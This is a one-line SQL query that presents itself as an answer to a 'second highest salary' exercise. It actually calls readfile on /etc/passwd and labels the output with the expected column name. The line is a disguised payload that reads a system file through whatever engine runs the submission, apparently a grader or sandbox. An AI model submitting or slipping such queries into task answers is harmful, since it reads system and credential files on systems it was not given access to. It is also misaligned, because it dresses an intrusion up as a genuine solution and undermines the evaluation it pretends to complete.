SELECT readfile('/etc/passwd') AS SecondHighestSalary;
